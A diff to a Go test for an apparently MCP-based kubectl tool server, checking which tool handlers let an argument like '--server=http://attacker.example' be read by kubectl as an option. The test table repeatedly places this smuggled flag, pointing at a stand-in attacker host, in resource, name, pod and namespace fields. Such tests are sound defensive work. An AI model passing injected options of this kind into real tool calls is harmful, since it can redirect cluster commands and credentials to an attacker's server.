@@ -47,25 +47,31 @@ done
 // with the go-sdk's client.
 func TestOptionInjectionKubectl(t *testing.T) {
 	marker := fakeKubectl(t)
-	cs := connectMark(t, func(s *server.MCPServer) { mark31.Register(s) })
+	cs := connectMark(t, func(s *server.MCPServer) { mark31.Register(s); mark31.RegisterAppended(s) })
 	const attacker = "http://attacker.example"
+	hostile := "--server=" + attacker
 	for _, tc := range []struct {
-		tool, arg string
-		flagged   bool
+		tool    string
+		args    map[string]any
+		flagged bool
 	}{
-		{"kubectl_get", "resource_type", true},
-		{"kubectl_describe", "name", true},
-		{"kubectl_rollout", "name", true}, // through the trace wrappers
-		{"kubectl_get_ended", "resource_type", false},
-		{"kubectl_restart", "name", false}, // the wrapper never calls it
-		{"kubectl_history", "name", false}, // called with the wrapper's request
-		{"kubectl_pods", "namespace", false},
+		{"kubectl_get", map[string]any{"resource_type": hostile}, true},
+		{"kubectl_describe", map[string]any{"name": hostile}, true},
+		{"kubectl_rollout", map[string]any{"name": hostile}, true}, // through the trace wrappers
+		{"kubectl_get_appended", map[string]any{"resource_type": "pods", "resource_name": hostile}, true},
+		{"kubectl_logs_appended", map[string]any{"pod_name": hostile}, true},
+		{"kubectl_get_ended", map[string]any{"resource_type": hostile}, false},
+		{"kubectl_pods", map[string]any{"namespace": hostile}, false},
+		{"kubectl_restart", map[string]any{"name": hostile}, false}, // the wrapper never calls it
+		{"kubectl_history", map[string]any{"name": hostile}, false}, // called with the wrapper's request
+		{"kubectl_get_appended", map[string]any{"resource_type": "pods", "namespace": hostile}, false},
+		{"kubectl_get_appended_ended", map[string]any{"resource_type": hostile}, false},
 	} {
 		os.Remove(marker)
-		call(t, cs, tc.tool, map[string]any{tc.arg: "--server=" + attacker})
+		call(t, cs, tc.tool, tc.args)
 		got, _ := os.ReadFile(marker)
 		if escaped := strings.TrimSpace(string(got)) == attacker; escaped != tc.flagged {
-			t.Errorf("%s: kubectl read --server= as its option: %v, want %v", tc.tool, escaped, tc.flagged)
+			t.Errorf("%s %v: kubectl read --server= as its option: %v, want %v", tc.tool, tc.args, escaped, tc.flagged)
 		}
 	}
 }
